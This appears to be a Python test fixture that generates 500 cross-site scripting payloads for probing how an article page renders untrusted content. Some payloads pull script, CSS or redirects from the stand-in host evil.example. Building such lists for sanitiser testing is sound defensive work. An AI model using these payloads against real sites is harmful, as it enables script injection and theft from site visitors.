"""Five hundred attempts to have a page run what an article says: fifty kinds in ten wrappings."""

from __future__ import annotations

from collections.abc import Callable, Iterator

KINDS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    "<img srcset=x onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style=background:url(https://evil.example/x)>x</div>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<x onpointerenter=alert(1) style=position:fixed;inset:0>x</x>",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "{{ 7 * 7 }}{% for x in (1, 2) %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}",
    '{"@type": "x"}</script><script>alert(1)</script>',
]
WRAPPINGS: list[Callable[[str], str]] = [
    lambda kind: kind,
    lambda kind: f'">{kind}',
    lambda kind: f"'>{kind}",
    lambda kind: f"</p></div></article>{kind}",
    lambda kind: f"</title></head><body>{kind}",
    lambda kind: f"</script>{kind}",
    lambda kind: f"-->{kind}<!--",
    lambda kind: f"`{kind}`",
    lambda kind: f"\\{kind}",
    lambda kind: f"**{kind}** _{kind}_",
]


def payloads() -> Iterator[str]:
    """All of them, each once."""
    for kind in KINDS:
        for wrap in WRAPPINGS:
            yield wrap(kind)
